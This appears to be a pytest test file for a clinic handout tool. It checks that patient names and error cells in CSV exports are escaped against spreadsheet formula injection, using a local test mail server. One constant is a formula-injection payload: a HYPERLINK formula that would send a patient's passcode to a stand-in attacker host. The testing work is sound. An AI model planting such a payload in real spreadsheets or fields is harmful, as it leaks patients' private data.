"""Patient privacy: spreadsheet-safe CSV files, keyed hashes, passcodes patients can type, and
email bodies that give nothing away. Mail goes to a real SMTP server on 127.0.0.1."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from conftest import cli
from servers import PASSWORD, USER, SmtpServer

from handoutgen.errors import Problem
from handoutgen.web.batch import Job

pytestmark = pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS",
                                        "ignore:Session.login_data is deprecated")

ALDER = "assets/clinics/alder/clinic.yaml"
BIRCH = "assets/clinics/birch/clinic.yaml"
NAME, ADDRESS = "Ana Lima", "ana.lima@patients.test"
# A name that a spreadsheet would run as a formula, sending the cell two columns on (the passcode) away.
FORMULA = '=HYPERLINK("http://evil.test/?"&E2,"Ana")'


def one(name: str = NAME, *more: str) -> tuple[str, ...]:
    """The arguments that email one patient of Alder two documents."""
    return ("email", "--clinic", "alder", "--treatment", "needling", "--kind", "consent", "--kind",
            "aftercare", f"--patient-name={name}", "--field", "appointment_date=2026-12-01", "--to",
            ADDRESS, "--appointment-id", "A1001", *more)


def use_server(lib: Path, server: SmtpServer, clinic: str = ALDER, settings: str = "") -> None:
    """Point a clinic's mail settings at the test server and trust its certificate."""
    path = lib / clinic
    text = path.read_text(encoding="utf-8").split("\nmail:\n")[0].split("\nprinter:")[0].rstrip("\n")
    path.write_text(f"{text}\nmail:\n  sender: handouts@clinic.test\n  smtp:\n    host: 127.0.0.1\n"
                    f"    port: {server.port}\n    security: starttls\n    user: {USER}\n"
                    "    password_env: TEST_SMTP_PASSWORD\n    ca_file: smtp-cert.pem\n"
                    f"  retry_delay_seconds: 0.01\n{settings}", encoding="utf-8")
    shutil.copy(server.cert, path.parent / "smtp-cert.pem")


@pytest.fixture
def smtp(tmp_path: Path, lib: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SmtpServer]:
    monkeypatch.setenv("TEST_SMTP_PASSWORD", PASSWORD)
    with SmtpServer(tmp_path) as server:
        use_server(lib, server)
        use_server(lib, server, BIRCH)
        yield server


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def passcodes(out: Path) -> dict[str, dict[str, str]]:
    with (out / "passcodes.csv").open(encoding="utf-8", newline="") as handle:
        return {row["appointment_id"]: row for row in csv.DictReader(handle)}


def body(message: EmailMessage, kind: str = "plain") -> str:
    part = message.get_body((kind,))
    assert part is not None
    return str(part.get_content())


# 1. Formula injection


@pytest.mark.parametrize("name", [FORMULA, "+1 Lima", "-Ana", "@SUM(A1)"])
def test_a_name_that_starts_a_formula_is_text_in_the_passcode_list(lib: Path, tmp_path: Path,
                                                                   smtp: SmtpServer, name: str) -> None:
    out = tmp_path / "mail"
    run = cli(lib, *one(name), "--out", str(out))
    assert run.code == 0, run.err
    header, row = csv_rows(out / "passcodes.csv")
    assert row[header.index("patient_name")] == "'" + name  # a spreadsheet shows it, never runs it
    assert row[header.index("appointment_id")] == "A1001"
    raw = (out / "passcodes.csv").read_text(encoding="utf-8")
    assert raw.splitlines()[0].startswith('"appointment_id","appointment_date"')  # every cell quoted


def test_every_cell_of_the_row_problems_list_is_neutralised(tmp_path: Path) -> None:
    job = Job("j", "owner", tmp_path, rows=2, total=2, packet=False)
    job.problems = [Problem("day.csv", 2, "\tpatient_name", "\r=1+1", "@x"),
                    Problem("day.csv", 3, "date", " =1+1", "-1 or \uff1dYYYY-MM-DD")]
    job.out.mkdir()
    with zipfile.ZipFile(job.archive()) as archive:
        text = archive.read("row-problems.csv").decode()
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["line", "column", "problem", "allowed"],
        ["2", "'\tpatient_name", "'\r=1+1", "'@x"],
        ["3", "date", "' =1+1", "'-1 or \uff1dYYYY-MM-DD"]]
